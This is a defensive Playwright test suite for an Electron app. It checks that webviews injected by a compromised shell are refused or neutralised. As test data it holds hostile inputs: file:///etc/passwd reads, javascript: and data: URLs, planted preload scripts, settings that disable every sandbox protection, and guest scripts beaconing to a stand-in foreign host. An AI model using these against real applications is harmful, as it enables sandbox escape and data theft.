import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Companion } from '../support/companion';
import { downloadsOf } from './files';
import { addWebview, inFrame, inGuest, mountByHand, prepareByHand, prepareTicket } from './mounts';
import { expect, test, type Stage } from './stage';

/** What main decided about one `<webview>` and what it would have been given. */
interface Attachment {
  readonly refused: boolean;
  readonly preferences: string;
  readonly parameters: string;
}

/** Listens behind the app's own guard, from here on; answers what was decided about the next element. */
async function watchAttachments({ app }: Companion): Promise<() => Promise<Attachment>> {
  const handle = await app.evaluateHandle(({ BrowserWindow }) => {
    const seen: Attachment[] = [];
    const [window] = BrowserWindow.getAllWindows();
    window?.webContents.on('will-attach-webview', (event, preferences, parameters) => {
      seen.push({
        refused: event.defaultPrevented,
        preferences: JSON.stringify(preferences),
        parameters: JSON.stringify(parameters),
      });
    });
    return seen;
  });
  return async () => {
    await expect.poll(() => handle.evaluate((seen) => seen.length), { intervals: [40] }).toBeGreaterThan(0);
    const [attachment] = await handle.jsonValue();
    if (!attachment) throw new Error('nothing was attached');
    return attachment;
  };
}

/** No page of the app shows the file or the foreign page, and no server saw a request. */
async function nothingReached({ companion, platform }: Stage): Promise<void> {
  const shown = await companion.app.evaluate(({ webContents }) =>
    webContents.getAllWebContents().map((contents) => contents.getURL()),
  );
  expect(shown.filter((url) => !/^(app:\/\/companion\/|data:|https:\/\/companion\.|$)/.test(url))).toEqual(
    [],
  );
  expect(platform.record.foreignHits).toEqual([]);
}

const refusedCases: readonly {
  readonly name: string;
  readonly attributes: (stage: Stage, ticket: string) => Record<string, string>;
}[] = [
  { name: 'without a ticket', attributes: () => ({ src: 'about:blank' }) },
  {
    name: 'with a forged ticket',
    attributes: () => ({ src: 'about:blank', partition: '7f9c24e8-3b12-4fef-91e0-3a1cd0b6a111' }),
  },
  {
    name: 'with the name of a session that lasts',
    attributes: () => ({ src: 'about:blank', partition: 'persist:embed' }),
  },
  {
    name: 'with a ticket and the address of a file',
    attributes: (_stage, ticket) => ({ src: 'file:///etc/passwd', partition: ticket }),
  },
  {
    name: 'with a ticket and a foreign address',
    attributes: ({ platform }, ticket) => ({ src: `${platform.foreignOrigin}/hostile`, partition: ticket }),
  },
  {
    name: "with a ticket and the address of Fullscript's own page",
    attributes: ({ platform }, ticket) => ({ src: `${platform.embedDomain}/catalog`, partition: ticket }),
  },
  {
    name: 'with a ticket and a page in its address',
    attributes: (_stage, ticket) => ({ src: 'data:text/html,<h1>planted</h1>', partition: ticket }),
  },
  {
    name: 'with a ticket and a script in its address',
    attributes: (_stage, ticket) => ({ src: 'javascript:document.write("planted")', partition: ticket }),
  },
  {
    name: "with a ticket and our own window's page",
    attributes: (_stage, ticket) => ({ src: 'app://companion/index.html', partition: ticket }),
  },
];

test.describe('a compromised shell adds a <webview>', () => {
  for (const { name, attributes } of refusedCases)
    test(`${name}: it is refused and nothing is loaded`, async ({ stage }) => {
      const ticket = await prepareTicket(stage.companion, stage.accounts[0]);
      const decided = await watchAttachments(stage.companion);
      await addWebview(stage.companion, attributes(stage, ticket));
      expect(await decided()).toMatchObject({ refused: true });
      await nothingReached(stage);
      await stage.companion.shell.evaluate((mountId) => window.companion.embed.close({ mountId }), ticket);
    });

  test('with a ticket that was used: it is refused', async ({ stage }) => {
    const { mountId } = await prepareByHand(stage.companion, stage.accounts[0]);
    const decided = await watchAttachments(stage.companion);
    await addWebview(stage.companion, { src: 'about:blank', partition: mountId });
    expect(await decided()).toMatchObject({ refused: true });
  });

  test('with the ticket of a mount that was closed: it is refused', async ({ stage }) => {
    const ticket = await prepareTicket(stage.companion, stage.accounts[0]);
    await stage.companion.shell.evaluate((mountId) => window.companion.embed.close({ mountId }), ticket);
    const decided = await watchAttachments(stage.companion);
    await addWebview(stage.companion, { src: 'about:blank', partition: ticket });
    expect(await decided()).toMatchObject({ refused: true });
  });

  test("with the session name of another account's live guest: it is refused", async ({ stage }) => {
    const attached = await watchAttachments(stage.companion);
    await mountByHand(stage.companion, stage.accounts[1]);
    const { preferences } = await attached();
    const partition = /"partition":"([^"]+)"/.exec(preferences)?.[1] ?? '';
    expect(partition).toMatch(/^embed-/);
    const decided = await watchAttachments(stage.companion);
    await addWebview(stage.companion, { src: 'about:blank', partition });
    expect(await decided()).toMatchObject({ refused: true });
  });
});

/** Every way a page could hold Node, looked for in one world; the answer is a list of what is there. */
const nodeInWorld = `['require', 'process', 'module', 'Buffer', '__dirname', 'planted'].filter((name) => typeof globalThis[name] !== 'undefined')`;

/** The same inside a worker that the frame starts. */
const nodeInWorker = `new Promise((resolve, reject) => {
  const code = "postMessage(" + ${JSON.stringify(nodeInWorld)} + ")";
  const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  worker.onmessage = ({ data }) => resolve(data);
  worker.onerror = ({ message }) => reject(new Error(message));
})`;

const everythingOn =
  'nodeIntegration=yes,contextIsolation=no,sandbox=no,webSecurity=no,allowRunningInsecureContent=yes,' +
  'nodeIntegrationInWorker=yes,nodeIntegrationInSubFrames=yes,webviewTag=yes,experimentalFeatures=yes,' +
  'plugins=yes,javascript=yes,devTools=yes,enableBlinkFeatures=MojoJS,disableDialogs=no,' +
  'additionalArguments=--planted,nativeWindowOpen=no,enableRemoteModule=yes,offscreen=yes';

const neutralCases: readonly {
  readonly name: string;
  readonly attributes: (stage: Stage) => Promise<Record<string, string>>;
}[] = [
  { name: 'nodeintegration', attributes: async () => ({ nodeintegration: '' }) },
  { name: 'nodeintegrationinsubframes', attributes: async () => ({ nodeintegrationinsubframes: '' }) },
  {
    name: 'webpreferences with nodeIntegrationInWorker',
    attributes: async () => ({ webpreferences: 'nodeIntegrationInWorker=yes,sandbox=no' }),
  },
  {
    name: 'webpreferences that turn everything on',
    attributes: async () => ({ webpreferences: everythingOn }),
  },
  {
    name: 'a preload of its own',
    attributes: async ({ profile }) => {
      const preload = join(profile.folder, 'planted-preload.js');
      await writeFile(preload, 'globalThis.planted = true; document.title = "planted";');
      return { preload: `file://${preload}`, webpreferences: 'contextIsolation=no,sandbox=no' };
    },
  },
  {
    name: 'a preload of its own, named in webpreferences',
    attributes: async ({ profile }) => {
      const preload = join(profile.folder, 'planted-preload-2.js');
      await writeFile(preload, 'globalThis.planted = true; document.title = "planted";');
      return { webpreferences: `preload=${preload},preloadURL=file://${preload},contextIsolation=no` };
    },
  },
  { name: 'disablewebsecurity', attributes: async () => ({ disablewebsecurity: '' }) },
  { name: 'allowpopups', attributes: async () => ({ allowpopups: '' }) },
  { name: 'plugins', attributes: async () => ({ plugins: '' }) },
  { name: 'useragent', attributes: async () => ({ useragent: 'planted' }) },
  { name: 'httpreferrer', attributes: async () => ({ httpreferrer: 'https://planted.example.test/' }) },
  { name: 'blinkfeatures', attributes: async () => ({ blinkfeatures: 'MojoJS,MojoJSTest' }) },
  { name: 'enableblinkfeatures', attributes: async () => ({ enableblinkfeatures: 'MojoJS' }) },
  {
    name: 'disableblinkfeatures',
    attributes: async () => ({ disableblinkfeatures: 'OriginIsolationHeader,PermissionsPolicy' }),
  },
  {
    name: 'a session named in webpreferences',
    attributes: async () => ({ webpreferences: 'partition=persist:planted' }),
  },
];

test.describe('a compromised shell adds a <webview> with a ticket and', () => {
  for (const { name, attributes } of neutralCases)
    test(`${name}: the guest is like any other`, async ({ stage }) => {
      const { companion, platform } = stage;
      platform.hostile = 'storage'; // a page without a content security policy of its own
      const decided = await watchAttachments(companion);
      const mount = await mountByHand(companion, stage.accounts[0], { attributes: await attributes(stage) });
      const { refused, preferences, parameters } = await decided();
      expect(refused).toBe(false);
      expect(`${preferences} ${parameters}`).not.toMatch(/planted|persist:|Mojo/);

      expect(await inGuest(companion, mount, nodeInWorld)).toEqual([]);
      expect(await inFrame(companion, mount, nodeInWorld)).toEqual([]);
      expect(await inFrame(companion, mount, nodeInWorker)).toEqual([]);
      expect(await inGuest(companion, mount, 'typeof Mojo')).toBe('undefined');
      expect(await inFrame(companion, mount, 'typeof companionGuest + typeof Mojo')).toBe(
        'undefinedundefined',
      );
      expect(await inFrame(companion, mount, `open('${platform.embedDomain}/catalog') === null`, true)).toBe(
        true,
      );
      expect(await inGuest(companion, mount, 'document.title')).toBe('Fullscript');
      expect(
        await inFrame(
          companion,
          mount,
          `fetch('${platform.origin}/api/clinic').then(() => 'read', () => 'refused')`,
        ),
      ).toBe('refused');
      const sent = platform.record.requests.flatMap(({ headers }) => Object.values(headers)).join('\n');
      expect(sent).not.toContain('planted');
      await nothingReached(stage);
    });
});

test.describe('a compromised shell steers a guest by its element:', () => {
  const addresses = (stage: Stage): string[] => [
    `${stage.platform.foreignOrigin}/steered`,
    'https://evil.example.test/',
    'file:///etc/passwd',
    'data:text/html,<h1>planted</h1>',
    'app://companion/index.html',
    'chrome://gpu/',
    'chrome://version/',
    'devtools://devtools/bundled/inspector.html',
    'view-source:file:///etc/passwd',
    'blob:https://companion.example-clinic.test/planted',
    'filesystem:https://companion.example-clinic.test/temporary/planted',
  ];

  test('loadURL reaches no file, no inner page and no foreign host', async ({ stage }) => {
    const { companion } = stage;
    const mount = await mountByHand(companion, stage.accounts[0]);
    for (const address of addresses(stage)) {
      await companion.shell.evaluate(
        async ([mountId, address]) => {
          const element = document.querySelector<Electron.WebviewTag>(`webview[partition="${mountId}"]`);
          const limit = new Promise((resolve) => {
            setTimeout(resolve, 400);
          });
          await Promise.race([limit, element?.loadURL(address).catch(() => undefined)]);
        },
        [mount.mountId, address] as const,
      );
      const text = await inGuest(companion, mount, 'document.documentElement.innerText');
      expect.soft(String(text), address).not.toMatch(/root:|planted|Graphics Feature|Chromium|DevTools/);
    }
    expect(stage.platform.record.foreignHits).toEqual([]);
  });

  test('a script it runs in the guest cannot leave for a foreign host either', async ({ stage }) => {
    const { companion, platform } = stage;
    const mount = await mountByHand(companion, stage.accounts[0]);
    await companion.shell.evaluate(
      async ([mountId, foreign]) => {
        const element = document.querySelector<Electron.WebviewTag>(`webview[partition="${mountId}"]`);
        const scripts = [
          `fetch('${foreign}/fetched').then(() => 'read', () => 'refused')`,
          `fetch('${foreign}/fetched', { mode: 'no-cors' }).then(() => 'sent', () => 'refused')`,
          `new Image().src = '${foreign}/image'`,
          `navigator.sendBeacon('${foreign}/beacon', 'planted')`,
          `open('${foreign}/popup')`,
          `location.href = '${foreign}/away'`,
        ];
        for (const script of scripts) await element?.executeJavaScript(script, true).catch(() => undefined);
      },
      [mount.mountId, platform.foreignOrigin] as const,
    );
    await expect.poll(() => inGuest(companion, mount, '1 + 1')).toBe(2);
    expect(platform.record.foreignHits).toEqual([]);
  });

  test('downloadURL writes no file and reaches no foreign host', async ({ stage }) => {
    const { companion, platform, profile } = stage;
    const mount = await mountByHand(companion, stage.accounts[0]);
    await companion.shell.evaluate(
      async ([mountId, addresses]) => {
        const element = document.querySelector<Electron.WebviewTag>(`webview[partition="${mountId}"]`);
        for (const address of addresses) element?.downloadURL(address);
      },
      [
        mount.mountId,
        [
          `${platform.foreignOrigin}/invoice.exe`,
          'data:application/octet-stream,planted',
          `${platform.embedDomain}/hostile/download`,
        ],
      ] as const,
    );
    // The allowed host is asked, which tells when the others have been decided; nothing of it is kept.
    await platform.record.until((record) => record.to('/hostile/download').length > 0);
    await expect.poll(() => inGuest(companion, mount, '1 + 1')).toBe(2);
    expect(platform.record.foreignHits).toEqual([]);
    expect(await downloadsOf(profile)).toEqual([]);
  });
});
